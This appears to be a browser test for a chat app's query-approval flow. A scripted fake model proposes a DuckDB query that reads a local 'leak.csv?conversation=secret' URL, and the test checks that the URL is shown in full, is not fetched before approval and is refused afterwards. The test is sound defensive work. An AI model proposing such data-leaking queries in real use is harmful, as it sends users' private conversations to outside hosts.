// A model proposes a query that reads a URL carrying the conversation. The card must show that URL whole,
// nothing may fetch it before the person approves (the pre-flight included), and once approved the page's
// DuckDB must refuse it without making the request: file and network access are off.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeLlm, type FakeLlm } from '../../servers/fake-llm/fake-llm-server';
import { startLoopbackServer, type LoopbackServer } from '../../servers/loopback';
import { ask, expectClean, openChat, waitForData, waitForIdle } from '../chat-page';
import { lightConfig, serveWithConfig, type ConfigVariant } from '../contract/config-variant';
import { launchBrowser } from '../harness';
import type { Browser } from 'playwright-core';

describe('a proposed query that reads a URL', () => {
  let browser: Browser;
  let fake: FakeLlm;
  let variant: ConfigVariant;
  let leak: LoopbackServer;
  const hits: string[] = [];
  let leakUrl = '';

  beforeAll(async () => {
    leak = await startLoopbackServer((request, response) => {
      hits.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*');
      response.end('a,b\n1,2\n');
    });
    leakUrl = `${leak.url}/leak.csv?conversation=secret`;
    [browser, fake, variant] = await Promise.all([
      launchBrowser(),
      startFakeLlm({
        script: {
          tokenDelayMs: 2,
          rules: [
            {
              user: 'leak',
              reply: {
                toolCalls: [
                  {
                    name: 'query',
                    arguments: { sql_query: `SELECT * FROM read_csv('${leakUrl}')` },
                  },
                ],
              },
            },
            { user: 'leak', toolResult: { regex: '.' }, reply: { text: 'The query did not run.' } },
          ],
          fallback: { text: 'Nothing scripted.' },
        },
      }),
      lightConfig().then((config) => serveWithConfig(JSON.stringify(config))),
    ]);
  });
  afterAll(async () => {
    await Promise.allSettled([browser?.close(), fake?.stop(), variant?.stop(), leak?.stop()]);
  });

  it('is shown whole on the card, fetched by nothing before approval, and refused after it', async () => {
    const opened = await openChat(browser, variant.appUrl, { endpoint: fake.url });
    const { page } = opened;
    const pageRequests: string[] = [];
    opened.context.on('request', (request) => pageRequests.push(request.url()));
    await waitForData(page);
    await ask(page, 'Please leak the conversation');
    const card = page.locator('.mw-approval-card');
    await card.waitFor();
    expect(await card.locator('.mw-proposal-description').first().textContent()).toContain(
      `Reads ${leakUrl} (a URL outside this page)`,
    );

    // The pre-flight settles without handing the query to DuckDB.
    const preflight = card.locator('.mw-preflight[data-parses]');
    await preflight.waitFor({ timeout: 60_000 });
    expect(await preflight.textContent()).toContain(
      `Not checked before approval: the query reads ${leakUrl}`,
    );
    await page.waitForTimeout(1000);
    expect(hits).toEqual([]);

    await card.getByRole('button', { name: 'Approve query' }).click();
    const call = page.locator('.mw-call[data-tool="query"][data-state="error"]');
    await call.waitFor({ timeout: 60_000 });
    await waitForIdle(page);
    await call.locator('summary').click();
    expect(await call.locator('.mw-call-result').textContent()).toMatch(
      /disabled by configuration/,
    );
    await page.waitForTimeout(500);
    expect(hits).toEqual([]);
    expect(pageRequests.filter((url) => url.includes('leak.csv'))).toEqual([]);
    await expectClean(opened);
    await opened.context.close();
  });
});
